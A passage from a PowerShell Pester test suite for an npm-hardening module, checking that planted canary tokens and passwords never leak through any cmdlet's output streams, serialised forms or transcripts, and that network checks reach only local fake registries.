    if ($script:m) { Remove-Item -LiteralPath $m.Root -Recurse -Force -ErrorAction SilentlyContinue }
}

Describe 'No secret leaves the module' {
    It 'has a canary case for every exported cmdlet' {
        $exported = @((Get-Module NpmHardening).ExportedCmdlets.Keys | Sort-Object)
        $missingCases = @($exported | Where-Object { -not $Cases.Contains($_) })
        $missingCases | Should -BeNullOrEmpty -Because 'every cmdlet must run under the canary test'
    }

    It 'the canaries are real: Test-NpmrcToken finds each planted secret by fingerprint' {
        $found = @(Test-NpmrcToken -Path $m.Project -Environment $envTable -WarningAction SilentlyContinue)
        $fingerprints = @($found.Fingerprint)
        $sha = [Security.Cryptography.SHA256]::Create()
        foreach ($secret in @($token, $uuid, $auth, $passwordB64)) {
            $fp = -join ($sha.ComputeHash([Text.Encoding]::UTF8.GetBytes($secret))[0..5] | ForEach-Object { $_.ToString('x2') })
            $fingerprints | Should -Contain $fp
        }
    }

    It 'the online cases reach the registry, so their output is checked and not only their errors' {
        (Get-NpmAccount -Registry $V.Url -Environment $envTable).User | Should -Be 'frank'
        $online = @(Test-NpmrcToken -Path $m.Project -Environment $envTable -Online -TimeoutSec 5 -WarningAction SilentlyContinue)
        @($online | Where-Object Valid -eq $true).User | Should -Contain 'frank'
        @($online | Where-Object { $_.OnlineError -match "127\.0\.0\.1:$closedPort" }).Count | Should -BeGreaterThan 0
        # every check went to this machine
        foreach ($o in @($online | Where-Object CheckedRegistry)) { $o.CheckedRegistry | Should -Match "^https?://127\.0\.0\.1:\d+/$" }
        $L.Received | Should -Match ([regex]::Escape("Bearer $token"))
    }

    It 'the release event and gate cases reach the fake with the canary token, so their output is checked' {
        if (-not $F) { Set-ItResult -Skipped -Because 'the fake registry needs PowerShell 7'; return }
        $events = @(Get-NpmReleaseEvent @TrustOn -Package '@canary/one')
        @($events | ForEach-Object 'event.action' | Sort-Object) | Should -Be @('package.published', 'package.staged')
        (Get-NpmReleaseGate @TrustOn -Package '@canary/one' -WarningAction SilentlyContinue).StagedWaiting | Should -Be 1
        @($events | Find-NpmUnapprovedPublish).RuleId | Should -Be 'NPMH14101'
    }

    It 'the trust and access cases reach the fake with the canary token and one-time password' {
        if (-not $F) { Set-ItResult -Skipped -Because 'the fake registry needs PowerShell 7'; return }
        (Get-NpmOrgMember @TrustOn -Org canary).User | Should -Be @('alice', 'bob')
        @(Get-NpmTrustedPublisher @TrustOn -Package '@canary/one' -Otp $trustOtp -PauseSeconds 0).Count | Should -Be 1
        $releases = @(Get-NpmPackageRelease @TrustOn -Package '@canary/rel')
        $releases.Count | Should -Be 2
        # the verdicts need the signing key Wine cannot make (BeforeAll)
        if ($ReleaseKey) { $releases.RegistrySignature | ForEach-Object ToString | Should -Be @('Valid', 'Invalid') }
        $F.Requests | Where-Object { $_.Path -eq '/@canary%2frel' -and $_.Authorization -eq "Bearer $trustToken" } | Should -Not -BeNullOrEmpty
        $F.Requests | Where-Object { $_.Path -eq '/-/npm/v1/keys' -and $_.Authorization } | Should -BeNullOrEmpty
        $F.Requests | Where-Object { $_.Authorization -eq "Bearer $trustToken" } | Should -Not -BeNullOrEmpty
        $F.Requests | Where-Object { $_.Otp -eq $trustOtp -and $_.Status -eq 200 } | Should -Not -BeNullOrEmpty
    }

    It '<_> shows no canary in any stream, view, JSON, CLIXML or transcript' -ForEach @(
        'Get-NpmConfig', 'Get-NpmSecurityPosture', 'Set-NpmHardening', 'Test-NpmHardening', 'Get-NpmHardeningBackup',
        'Restore-NpmHardening', 'Test-NpmrcToken', 'Export-NpmHardeningReport', 'ConvertTo-NpmSarif', 'Get-NpmAccount',
        'Get-NpmAccessToken', 'Test-NpmrcToken -Online', 'Get-NpmRule', 'New-NpmHardeningPolicy', 'Protect-NpmrcToken',
        'Get-NpmPublishPipeline', 'Get-NpmStagedPackage', 'Save-NpmStagedPackage', 'Approve-NpmStagedPackage',
        'Deny-NpmStagedPackage', 'Get-NpmOrgPackage', 'Get-NpmOrgMember', 'Get-NpmPackageCollaborator', 'Get-NpmPackageAccess',
        'Get-NpmTrustedPublisher', 'Set-NpmTrustedPublisher', 'Remove-NpmTrustedPublisher', 'Set-NpmPackageAccess',
        'Compare-NpmStagedPackage', 'Get-NpmPackageRelease', 'Test-NpmLockfile', 'Compare-NpmLockfile',
        'Get-NpmReleaseEvent', 'Find-NpmUnapprovedPublish', 'Get-NpmReleaseGate'
    ) {
        # Under Wine each case costs about 10 s (measured, load 15-30), 35 cases more than the whole run may take. There the
        # cases of the cmdlets that read and write this machine's files run; those whose output is only what a registry
        # answered (the online, staged, trust, access and release cmdlets) have the same code on every platform and run
        # on Linux. The case above that checks they reach the fakes still runs under Wine.
        $online = 'Get-NpmAccount', 'Get-NpmAccessToken', 'Test-NpmrcToken -Online', 'Get-NpmStagedPackage', 'Save-NpmStagedPackage',
            'Approve-NpmStagedPackage', 'Deny-NpmStagedPackage', 'Get-NpmOrgPackage', 'Get-NpmOrgMember', 'Get-NpmPackageCollaborator',
            'Get-NpmPackageAccess', 'Get-NpmTrustedPublisher', 'Set-NpmTrustedPublisher', 'Remove-NpmTrustedPublisher',
            'Set-NpmPackageAccess', 'Get-NpmPackageRelease', 'Get-NpmReleaseEvent', 'Find-NpmUnapprovedPublish', 'Get-NpmReleaseGate'
        if ($UnderWine -and $_ -in $online) {
            Set-ItResult -Skipped -Because 'under Wine only the canary cases of cmdlets that read or write local files run (10 s each there); this registry-only case runs on Linux'
            return
        }
        $case = $Cases[$_]
        $transcript = Join-Path $m.Root "transcript-$_.txt"
        # -Debug on a compiled cmdlet makes every warning and error ask "Continue with this operation?" unless
        # -WarningAction/-ErrorAction are given (PowerShell's own rule); there is no console to answer here.
        $PSDefaultParameterValues['*-Npm*:WarningAction'] = 'Continue'
        $PSDefaultParameterValues['*-Npm*:ErrorAction'] = 'Continue'
        $DebugPreference = 'Continue'; $VerbosePreference = 'Continue'
        Start-Transcript -LiteralPath $transcript | Out-Null
        try {
            # every stream into one: output, errors, warnings, verbose, debug, information
            $records = @(& $case *>&1)
        } finally {
            Stop-Transcript | Out-Null
            $DebugPreference = 'SilentlyContinue'; $VerbosePreference = 'SilentlyContinue'
            # $PSDefaultParameterValues is the session's one table: left in, -ErrorAction Continue reached every later
            # test file of the process (under Wine, Protect-NpmrcToken's refusals stopped throwing).
            $PSDefaultParameterValues.Remove('*-Npm*:WarningAction')
            $PSDefaultParameterValues.Remove('*-Npm*:ErrorAction')
        }
        $records.Count | Should -BeGreaterThan 0
        $objects = @($records | Where-Object { $_ -isnot [System.Management.Automation.ErrorRecord] -and $_ -isnot [System.Management.Automation.InformationalRecord] })
        $xml = Join-Path $m.Root "out-$_.xml"
        $records | Export-Clixml -LiteralPath $xml -Depth 5
        Assert-NoCanary ($records | Out-String -Width 500) 'the streams'
        Assert-NoCanary (($records | ForEach-Object { if ($_ -is [System.Management.Automation.ErrorRecord]) { "$($_.Exception) $($_.ErrorDetails) $($_.TargetObject) $($_.ScriptStackTrace)" } }) -join "`n") 'error details'
        Assert-NoCanary ($objects | Format-List * -Force | Out-String -Width 500) 'Format-List *'
        Assert-NoCanary ($objects | ConvertTo-Json -Depth 5 -WarningAction SilentlyContinue) 'ConvertTo-Json'
        Assert-NoCanary ([IO.File]::ReadAllText($xml)) 'Export-Clixml'
        Assert-NoCanary ([IO.File]::ReadAllText($transcript)) 'the transcript'
    }


    It 'the stage cases reach the staged-publishing fake with the token and the OTP, so their output is checked too' -Skip:($PSVersionTable.PSVersion.Major -lt 7) {
        if ($UnderWine) { Set-ItResult -Skipped -Because 'under Wine the stage cases are among the registry-only canary cases that run on Linux only'; return }
        $S.Requests | Where-Object { $_.Authorization -eq "Bearer $token" } | Should -Not -BeNullOrEmpty
        @($S.Requests | Where-Object { $_.Method -eq 'POST' -and $_.Otp -eq $otpCanary -and $_.Status -eq 201 }).Count | Should -Be 1
        @($S.Requests | Where-Object { $_.Method -eq 'DELETE' -and $_.Otp -eq $otpCanary -and $_.Status -lt 300 }).Count | Should -Be 1
    }
}
